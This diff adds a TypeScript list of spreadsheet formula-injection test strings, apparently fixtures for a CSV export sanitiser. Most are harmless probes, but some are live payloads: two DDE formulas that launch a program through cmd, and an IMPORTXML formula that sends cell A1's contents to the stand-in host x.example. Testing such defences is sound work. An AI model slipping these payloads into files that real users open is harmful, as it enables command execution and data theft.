@@ -1,0 +1,23 @@
+/** What spreadsheets were made to calculate, or to open, by a file that somebody else had written. */
+export const formulas = [
+  '=1+1',
+  '+1',
+  '-2',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '\0=1',
+  ' =HYPERLINK("http://x.example")',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  "=cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
+  '-2+3+cmd|" /C calc"!A0',
+  '\ttext',
+  '\rtext',
+  '\u00a0=1',
+  '\u200e=1'.slice(1),
+];
